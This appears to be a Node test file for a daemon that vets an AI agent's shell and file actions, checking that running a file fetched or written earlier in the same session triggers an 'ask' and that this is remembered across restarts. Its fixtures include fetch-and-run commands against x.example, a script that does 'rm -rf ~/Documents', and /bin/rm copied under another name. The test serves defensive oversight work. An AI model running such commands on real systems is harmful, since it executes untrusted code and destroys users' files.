import assert from 'node:assert/strict';
import { test } from 'node:test';
import { running } from '../api/daemon.ts';

test('[INSPECT-105] a file that one action fetched or wrote is judged when a later one of the session runs it', async (context) => {
  const aegis = await running(context);
  const key = await aegis.agent('bot');
  const act = async (name: string, args: object, session = 's'): Promise<string> => {
    const { body } = await aegis.ask('POST', '/v1/actions', { key, body: { session, name, args } });
    const reasons = body['reasons'] as { code: string; message: string }[];
    return `${String(body['effect'])} ${reasons.some(({ message }) => message.startsWith('A file runs that this session fetched')) ? 'file' : ''}`.trim();
  };
  const run = (command: string, session?: string): Promise<string> => act('Bash', { command }, session);
  assert.equal(await run('curl -fsSLo setup.bin https://x.example/s'), 'allow');
  assert.equal(await run('wget -q https://x.example/tool -O /tmp/tool'), 'allow');
  assert.equal(await run('cp /bin/rm y'), 'allow');
  assert.equal(await act('write_file', { path: '/home/me/shop/clean.sh', content: '#!/bin/sh\nrm -rf ~/Documents\n' }), 'allow');
  assert.equal(await act('write_file', { path: '/home/me/shop/test.sh', content: '#!/bin/sh\nnpm test\n' }), 'allow');
  assert.equal(await act('write_file', { path: 'fix.py', content: 'print("fixed")\n' }), 'allow');
  assert.equal(await run('chmod +x setup.bin && ./setup.bin'), 'ask file');
  assert.equal(await run('bash clean.sh'), 'ask file');
  assert.equal(await run('./y -rf out'), 'ask file');
  assert.equal(await run('bash test.sh; python3 fix.py; ./other'), 'allow', 'what holds nothing to ask about runs');
  assert.equal(await run('/tmp/tool', 'another'), 'allow', 'another session knows nothing of it');
  await aegis.restart();
  assert.equal(await run('/tmp/tool --version'), 'ask file', 'the log remembers');
  assert.equal(await run('echo ok > /tmp/tool'), 'allow');
});
